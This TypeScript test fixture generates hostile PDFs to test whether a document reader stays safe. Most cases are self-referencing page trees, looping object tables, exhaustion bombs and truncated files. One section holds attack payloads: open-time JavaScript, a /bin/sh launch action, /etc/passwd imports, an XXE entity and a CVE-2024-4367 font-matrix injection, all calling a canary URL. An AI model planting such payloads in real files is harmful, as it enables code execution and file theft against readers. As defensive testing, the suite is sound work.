import { type Canary, clause, type HostileFile, type Outcome } from '../hostile-file.ts';
import { numbered, onePage, type PdfObject, type PdfOptions, pdfFile, show, stream } from './pdf-bytes.ts';
import { mebibyte, noise } from './repeatable-bytes.ts';

const damaged: readonly Outcome[] = ['unreadable damaged'];
const exhausting: readonly Outcome[] = ['unreadable out_of_memory', 'unreadable timed_out', 'unreadable too_large'];
/** What a reader that repairs files makes of it is its own affair, as long as it ends. */
const any: readonly Outcome[] = [
  'ready',
  'needs_ocr',
  ...damaged,
  ...exhausting,
  'unreadable no_text',
  'unreadable crashed',
  'unreadable encrypted',
];

interface Case {
  expected: readonly Outcome[];
  content: (canary: Canary) => Buffer;
  text?: string;
}

function pdf(name: string, attack: string, { expected, content, text }: Case): HostileFile {
  return { name, filename: `${name}.pdf`, attack, expected, content, ...(text === undefined ? {} : { text }) };
}

/** Repaired or not, but if it is read, then rightly. */
function objects(make: (canary: Canary) => readonly PdfObject[], options: PdfOptions = {}): Case {
  return { expected: any, content: (canary) => pdfFile(make(canary), options) };
}

/** Has to be read. */
function read(make: (canary: Canary) => readonly PdfObject[], options: PdfOptions = {}): Case {
  return { expected: ['ready'], text: clause, content: (canary) => pdfFile(make(canary), options) };
}

const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const content = stream('', show(clause));
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

function tree(...nodes: string[]): PdfObject[] {
  return ['<< /Type /Catalog /Pages 2 0 R >>', nodes[0] ?? '', page, content, font, ...nodes.slice(1)];
}

/** Page trees. */
const pageTrees: readonly HostileFile[] = [
  pdf(
    'pdf-pages-in-a-circle',
    'has a page tree that holds itself',
    objects(() => tree('<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>')),
  ),
  pdf(
    'pdf-pages-in-a-long-circle',
    'has a page tree that comes back to its root after three levels',
    objects(() =>
      tree(
        '<< /Type /Pages /Kids [6 0 R] /Count 1000 >>',
        '<< /Type /Pages /Kids [7 0 R] /Count 1000 >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 1000 >>',
      ),
    ),
  ),
  pdf(
    'pdf-parents-in-a-circle',
    'has pages that inherit from each other',
    objects(() => [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Parent 6 0 R /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
      content,
      font,
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
    ]),
  ),
  pdf(
    'pdf-two-billion-pages',
    'claims 2^31 - 1 pages and has one',
    objects(() => tree('<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>')),
  ),
  pdf(
    'pdf-minus-one-pages',
    'claims -1 pages',
    objects(() => tree('<< /Type /Pages /Kids [3 0 R] /Count -1 >>')),
  ),
  pdf(
    'pdf-one-page-a-billion-times',
    'shares one page among nine levels of ten branches',
    objects(() => tree(level(1), ...Array.from({ length: 8 }, (_, index) => level(index + 2)))),
  ),
  pdf(
    'pdf-one-page-100000-times',
    'lists one page 100,000 times',
    objects(() => tree(`<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`)),
  ),
  pdf(
    'pdf-tree-100000-deep',
    'has a page under 100,000 levels',
    objects(() =>
      tree(
        '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
        ...Array.from(
          { length: 100_000 },
          (_, index) => `<< /Type /Pages /Kids [${index === 99_999 ? 3 : index + 7} 0 R] /Count 1 >>`,
        ),
      ),
    ),
  ),
  pdf(
    'pdf-without-pages',
    'has no pages',
    objects(() => tree('<< /Type /Pages /Kids [] /Count 0 >>')),
  ),
];

function level(depth: number): string {
  // Object 2 is the first level; the second one is object 6.
  const below = depth === 9 ? 3 : depth + 5;
  return `<< /Type /Pages /Kids [${`${below} 0 R `.repeat(10)}] /Count ${10 ** (10 - depth)} >>`;
}

/** A file whose last table of objects names the one before. */
function tables(previous: (own: number, first: number) => number, more = ''): Buffer {
  const { body, table } = numbered(onePage(show(clause)));
  const rows = table.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const section = (at: number) =>
    `xref\n0 6\n0000000000 65535 f \n${rows}trailer\n<< /Size 6 /Root 1 0 R /Prev ${previous(at, body.length)} ${more} >>\n`;
  const first = section(body.length);
  const second = section(body.length + first.length);
  return Buffer.concat([body, Buffer.from(`${first}${second}startxref\n${body.length + first.length}\n%%EOF\n`)]);
}

/** A file whose table of objects is a stream with this dictionary. */
function tableStream(dictionary: string, rows: Buffer = noise(1000)): Buffer {
  const { body } = numbered(onePage(show(clause)));
  const xref = stream(`/Type /XRef /Root 1 0 R ${dictionary}`, rows);
  return Buffer.concat([
    body,
    Buffer.from('6 0 obj\n'),
    xref,
    Buffer.from(`\nendobj\nstartxref\n${body.length}\n%%EOF\n`),
  ]);
}

const whole = () =>
  pdfFile(onePage(show(clause), { more: Array.from({ length: 40 }, (_, index) => stream('', noise(500, index + 1))) }));

/** Tables of objects, and what they say of where things are. */
const objectTables: readonly HostileFile[] = [
  pdf('pdf-without-a-table', 'has no table of objects', {
    expected: any,
    content: () => numbered(onePage(show(clause))).body,
  }),
  pdf(
    'pdf-table-beyond-the-end',
    'has its table of objects behind its end',
    objects(() => onePage(show(clause)), { startxref: 2 ** 40 }),
  ),
  pdf(
    'pdf-table-at-a-negative-place',
    'has its table of objects at -1',
    objects(() => onePage(show(clause)), { startxref: -1 }),
  ),
  pdf(
    'pdf-objects-beyond-the-end',
    'has its objects behind its end',
    objects(() => onePage(show(clause)), { offsets: { 1: 9_999_999_999, 2: 9_999_999_999, 3: 9_999_999_999 } }),
  ),
  pdf(
    'pdf-objects-that-are-one',
    'has all objects at one place',
    objects(() => onePage(show(clause)), { offsets: { 1: 9, 2: 9, 3: 9, 4: 9, 5: 9 } }),
  ),
  pdf('pdf-table-before-itself', 'names its table of objects as the one before', {
    expected: any,
    content: () => tables((own) => own),
  }),
  pdf('pdf-tables-in-a-circle', 'has two tables of objects, each before the other', {
    expected: any,
    content: () => tables((own, first) => (own === first ? first + 250 : first)),
  }),
  pdf('pdf-table-before-that-is-noise', 'names the middle of an object as the table before', {
    expected: any,
    content: () => tables(() => 40),
  }),
  pdf('pdf-table-of-a-billion-objects', 'has a table that claims a billion objects', {
    expected: any,
    content: () => tableStream('/Size 1000000000 /W [1 4 2] /Index [0 1000000000]'),
  }),
  pdf('pdf-table-of-rows-without-width', 'has a table of a billion rows of no bytes', {
    expected: any,
    content: () => tableStream('/Size 1000000000 /W [0 0 0] /Index [0 1000000000]'),
  }),
  pdf('pdf-table-of-rows-of-a-gigabyte', 'has a table whose rows are 2^31 bytes wide', {
    expected: any,
    content: () => tableStream('/Size 10 /W [2147483647 2147483647 2147483647]'),
  }),
  pdf('pdf-table-stream-before-itself', 'has a table that is a stream and before itself', {
    expected: any,
    content: () => tableStream(`/Size 7 /W [1 4 2] /Prev ${numbered(onePage(show(clause))).body.length}`),
  }),
  pdf('pdf-object-stream-in-itself', 'keeps a stream of objects in itself', {
    expected: any,
    content: objectStreamInItself,
  }),
  pdf(
    'pdf-reference-to-itself',
    'has objects that are references to themselves',
    objects(() =>
      onePage(show(clause), { catalog: '/Outlines 6 0 R /Names 7 0 R', more: ['6 0 R', '8 0 R', '7 0 R'] }),
    ),
  ),
  pdf(
    'pdf-length-of-4-gigabytes',
    'claims 4 GB for the content of its page',
    objects(() => onePage(stream('', show(clause), 4_294_967_295))),
  ),
  pdf(
    'pdf-length-below-zero',
    'claims a negative length',
    objects(() => onePage(stream('', show(clause), -1))),
  ),
  pdf(
    'pdf-length-in-a-circle',
    'has the length of a stream in that stream',
    objects(() => onePage(stream('', show(clause), '4 0 R'))),
  ),
  ...[1, 10, 25, 50, 75, 90, 99].map((share) =>
    pdf(`pdf-cut-at-${share}-percent`, `ends after ${share} % of its bytes`, {
      expected: any,
      content: () => {
        const bytes = whole();
        return bytes.subarray(0, Math.floor((bytes.length * share) / 100));
      },
    }),
  ),
  pdf('pdf-header-alone', 'is a header and nothing else', {
    expected: damaged,
    content: () => Buffer.from('%PDF-1.7\n'),
  }),
  pdf('pdf-of-noise', 'is a megabyte of noise behind a header', {
    expected: damaged,
    content: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(mebibyte)]),
  }),
  pdf('pdf-of-a-million-object-headers', 'begins a million objects and ends none', {
    expected: any,
    content: () =>
      Buffer.from(`%PDF-1.7\n${Array.from({ length: 1_000_000 }, (_, index) => `${index} 0 obj\n`).join('')}`),
  }),
  pdf('pdf-of-trailers', 'has 200,000 trailers', {
    expected: any,
    content: () => Buffer.from(`%PDF-1.7\n${'trailer\n<< /Root 1 0 R >>\n'.repeat(200_000)}`),
  }),
];

function objectStreamInItself(): Buffer {
  const { body, table } = numbered([
    ...onePage(show(clause)),
    stream('/Type /ObjStm /N 1 /First 4 /Extends 6 0 R', '6 0 << >>'),
  ]);
  const row = (type: number, second: number) =>
    Buffer.from([type, second >> 24, second >> 16, second >> 8, second, 0, 0]);
  // The page is in the stream, and the stream is in itself.
  const rows = Buffer.concat([
    row(0, 0),
    ...table.map((at, index) => (index === 2 || index === 5 ? row(2, 6) : row(1, at))),
  ]);
  const xref = stream('/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R', rows);
  return Buffer.concat([
    body,
    Buffer.from('7 0 obj\n'),
    xref,
    Buffer.from(`\nendobj\nstartxref\n${body.length}\n%%EOF\n`),
  ]);
}

function form(resources: string, operators: string): Buffer {
  return stream(`/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << ${resources} >>`, operators);
}

/** Pages that draw things which draw themselves. */
const drawings: readonly HostileFile[] = [
  pdf(
    'pdf-form-that-draws-itself',
    'has a form that draws itself',
    objects(() =>
      onePage(`${show(clause)}/X Do`, {
        resources: '/XObject << /X 6 0 R >>',
        more: [form('/XObject << /X 6 0 R >>', '/X Do')],
      }),
    ),
  ),
  pdf(
    'pdf-forms-that-draw-each-other',
    'has two forms that draw each other',
    objects(() =>
      onePage(`${show(clause)}/X Do`, {
        resources: '/XObject << /X 6 0 R >>',
        more: [form('/XObject << /X 7 0 R >>', '/X Do'), form('/XObject << /X 6 0 R >>', '/X Do')],
      }),
    ),
  ),
  pdf(
    'pdf-forms-that-multiply',
    'has twelve levels of forms that draw the next one ten times',
    objects(() =>
      onePage(`${show(clause)}/X Do`, {
        resources: '/XObject << /X 6 0 R >>',
        more: Array.from({ length: 12 }, (_, index) =>
          form(`/XObject << /X ${index + 7} 0 R >> /Font << /F1 5 0 R >>`, `${show('a')}${'/X Do '.repeat(10)}`),
        ),
      }),
    ),
  ),
  pdf(
    'pdf-glyph-that-shows-itself',
    'has a Type 3 font whose glyph shows text in that font',
    objects(() =>
      onePage(show('aaaa'), {
        font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
        more: [stream('', '1 0 d0 BT /F1 1 Tf (aaaaaaaaaa) Tj ET')],
      }),
    ),
  ),
  pdf(
    'pdf-page-of-a-light-year',
    'has a page of 10^38 points',
    objects(() => onePage(show(clause), { page: '/MediaBox [-1e38 -1e38 1e38 1e38] /UserUnit 1e38 /Rotate 1e9' })),
  ),
  pdf(
    'pdf-page-without-numbers',
    'has a page whose size is no numbers',
    objects(() => onePage(show(clause), { page: '/MediaBox [/a (b) null << >>] /Rotate /c' })),
  ),
  pdf(
    'pdf-layers-in-a-circle',
    'has layers and structure that hold themselves',
    objects(() =>
      onePage(`/OC /L BDC ${show(clause)} EMC`, {
        resources: '/Properties << /L 6 0 R >>',
        catalog:
          '/OCProperties << /OCGs [6 0 R] /D << /Order 7 0 R >> >> /StructTreeRoot 8 0 R /MarkInfo << /Marked true >>',
        more: [
          '<< /Type /OCMD /OCGs 6 0 R /VE [/And 6 0 R] >>',
          '[7 0 R 7 0 R]',
          '<< /Type /StructTreeRoot /K 8 0 R /ParentTree 8 0 R /Kids [8 0 R] >>',
        ],
      }),
    ),
  ),
];

/** What a reader may do when it opens a file, and must not. */
const actions: readonly HostileFile[] = [
  pdf(
    'pdf-actions-when-opened',
    'runs scripts, starts programs and calls web addresses when it is opened',
    read(({ url }) =>
      onePage(show(clause), {
        catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}script"\\)) /Next [<< /S /URI /URI (${url}uri) >> << /S /Launch /F (/bin/sh) >> << /S /SubmitForm /F (${url}submit) >> << /S /GoToR /F << /FS /URL /F (${url}goto) >> /D [0 /Fit] >> << /S /ImportData /F (/etc/passwd) >>] >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\);) >>] >> >>`,
        page: `/AA << /O << /S /URI /URI (${url}page) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (${url}link) >> >>]`,
      }),
    ),
  ),
  pdf(
    'pdf-script-in-a-font',
    'has a script in a font matrix (CVE-2024-4367)',
    read(() =>
      onePage(show(clause), {
        font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); process.exit\\(1\\); //)] >>',
      }),
    ),
  ),
  pdf(
    'pdf-content-at-a-web-address',
    'has the content of its page at a web address',
    objects(({ url }) => onePage(stream(`/F << /Type /Filespec /FS /URL /F (${url}content) >>`, show(clause)))),
  ),
  pdf(
    'pdf-content-in-a-local-file',
    'has the content of its page in /etc/passwd',
    objects(() => onePage(stream('/F (/etc/passwd)', show(clause)))),
  ),
  pdf(
    'pdf-drawing-of-another-file',
    'draws a page of another file (reference XObject)',
    read(({ url }) =>
      onePage(`${show(clause)}/X Do`, {
        resources: '/XObject << /X 6 0 R >>',
        more: [
          stream(
            `/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F << /FS /URL /F (${url}reference) >> /Page 0 >> /OPI << /2.0 << /F (${url}opi) >> >>`,
            '',
          ),
        ],
      }),
    ),
  ),
  pdf(
    'pdf-embedded-program',
    'holds a program and films from a web address',
    read(({ url }) =>
      onePage(show(clause), {
        catalog:
          '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (../../a.exe) /EF << /F 6 0 R >> >>] >> >>',
        page: `/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] /RichMediaContent << /Assets << /Names [(a) << /FS /URL /F (${url}film) >>] >> >> >>]`,
        more: [stream('/Type /EmbeddedFile', Buffer.concat([Buffer.from('MZ'), noise(1000)]))],
      }),
    ),
  ),
  pdf(
    'pdf-form-of-xml',
    'has an XFA form with entities and metadata with declarations',
    read(({ url }) =>
      onePage(show(clause), {
        catalog: '/AcroForm << /XFA 6 0 R /Fields [7 0 R] >> /Metadata 6 0 R',
        more: [
          stream(
            '/Type /Metadata /Subtype /XML',
            `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${url}xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&b;</xdp:xdp>`,
          ),
          '<< /FT /Tx /T (a) /Kids [7 0 R] /Parent 7 0 R >>',
        ],
      }),
    ),
  ),
  pdf('pdf-encrypted-with-an-unknown-method', 'is encrypted by a method that does not exist', {
    expected: [...damaged, 'unreadable encrypted'],
    content: () =>
      pdfFile(onePage(show(clause)), {
        trailer: '/Encrypt << /Filter /Standard /V 99 /R 99 /O (a) /U (b) /P -1 /Length 2147483647 >> /ID [(a) (b)]',
      }),
  }),
  pdf('pdf-encrypted-by-noise', 'has noise for its keys', {
    expected: [...damaged, 'unreadable encrypted'],
    content: () =>
      pdfFile(onePage(show(clause)), {
        trailer: `/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O <${noise(48).toString('hex')}> /U <${noise(48, 2).toString('hex')}> /OE <${noise(32).toString('hex')}> /UE <${noise(32).toString('hex')}> /Perms <${noise(16).toString('hex')}> /P -1 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF >> /ID [(a) (b)]`,
      }),
  }),
];

export const pdfStructures: readonly HostileFile[] = [...pageTrees, ...objectTables, ...drawings, ...actions];
